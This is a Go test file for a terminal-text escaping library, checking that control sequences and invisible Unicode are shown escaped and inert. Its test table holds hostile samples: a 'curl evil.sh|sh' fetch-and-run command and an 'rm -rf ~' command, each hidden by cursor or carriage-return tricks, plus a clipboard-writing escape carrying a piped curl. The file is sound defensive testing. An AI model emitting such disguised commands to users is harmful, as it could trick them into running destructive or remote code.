package termtext

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

// hostile are strings a model can write to make a terminal act or lie.
var hostile = []struct {
	name, in, shows string
}{
	{"OSC 52 clipboard write", "x\x1b]52;c;Y3VybCBldmlsfHNo\x07y", `x\x1b]52;c;Y3VybCBldmlsfHNo\x07y`},
	{"clear screen", "\x1b[2J\x1b[H", `\x1b[2J\x1b[H`},
	{"cursor movement hides a command", "curl evil.sh|sh\x1b[1A\x1b[2K\x0dgo test ./...", `curl evil.sh|sh\x1b[1A\x1b[2K\x0dgo test ./...`},
	{"carriage return overwrite", "rm -rf ~\rls      ", `rm -rf ~\x0dls      `},
	{"C1 CSI", "a\u009b2Jb", `a\u009b2Jb`},
	{"C1 OSC and ST", "\u009d52;c;eA==\u009c", `\u009d52;c;eA==\u009c`},
	{"raw 8-bit CSI byte", "a\x9b2J", `a\x9b2J`},
	{"right-to-left override", "ls \u202e hs.live", `ls \u202e hs.live`},
	{"bidi isolate", "a\u2066b\u2069", `a\u2066b\u2069`},
	{"zero-width space", "go\u200btest", `go\u200btest`},
	{"line separator", "a\u2028b\u2029c", `a\u2028b\u2029c`},
	{"tag characters", "a\U000E0041b", `a\u{e0041}b`},
	{"DEL and backspace", "ab\x08\x7f", `ab\x08\x7f`},
	{"NUL and bell", "\x00\x07", `\x00\x07`},
}

func TestHostileTextIsShownEscaped(t *testing.T) {
	t.Parallel()
	for _, tc := range hostile {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			for _, got := range []string{Line(tc.in), Block(tc.in)} {
				if got != tc.shows {
					t.Errorf("escaped %q as %q, want %q", tc.in, got, tc.shows)
				}
				assertInert(t, got)
			}
			if !Controls(tc.in) {
				t.Errorf("Controls(%q) = false", tc.in)
			}
			var b bytes.Buffer
			if n, err := NewWriter(&b).Write([]byte(tc.in)); err != nil || n != len(tc.in) || b.String() != tc.shows {
				t.Errorf("Writer wrote %q (%d, %v)", b.String(), n, err)
			}
		})
	}
}

// TestPlainTextIsUnchanged is the positive control: ordinary text, Unicode
// included, prints as itself; a block keeps its lines and tabs.
func TestPlainTextIsUnchanged(t *testing.T) {
	t.Parallel()
	for _, s := range []string{"", "go test ./...", "héllo ✓ 日本語 — “quotes” 🙂", `C:\path\x1b is text`, "a < b && c > d"} {
		if Line(s) != s || Block(s) != s || Controls(s) {
			t.Errorf("plain %q changed: line %q block %q", s, Line(s), Block(s))
		}
	}
	if got := Block("one\n\ttwo\n"); got != "one\n\ttwo\n" {
		t.Errorf("Block dropped layout: %q", got)
	}
	if got := Line("one\n\ttwo"); got != `one\x0a\x09two` {
		t.Errorf("Line kept layout: %q", got)
	}
}

// TestJSON: encoding/json escapes C0 controls but leaves C1, bidi and
// format characters raw; JSON escapes them and the document decodes to the
// same value.
func TestJSON(t *testing.T) {
	t.Parallel()
	for _, tc := range hostile {
		in := map[string]string{"text": tc.in}
		b, err := json.Marshal(in)
		if err != nil {
			t.Fatal(err)
		}
		out := JSON(b)
		assertInert(t, string(out))
		var back map[string]string
		if err := json.Unmarshal(out, &back); err != nil || back["text"] != strings.ToValidUTF8(tc.in, "\ufffd") {
			t.Errorf("%s: JSON changed the value: %q (%v)", tc.name, back["text"], err)
		}
	}
	if b := []byte(`{"a":"héllo 日本"}`); !bytes.Equal(JSON(b), b) {
		t.Errorf("JSON changed plain text: %s", JSON(b))
	}
}

// assertInert fails if s holds a byte or character a terminal acts on.
func assertInert(t *testing.T, s string) {
	t.Helper()
	for i, r := range s {
		if r == utf8.RuneError || r < 0x20 && r != '\n' && r != '\t' || r >= 0x7f && r <= 0x9f || r >= 0x200b && r <= 0x200f ||
			r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r == 0x2028 || r == 0x2029 || r >= 0xe0000 && r <= 0xe007f {
			t.Errorf("%q holds %U at byte %d", s, r, i)
		}
	}
}
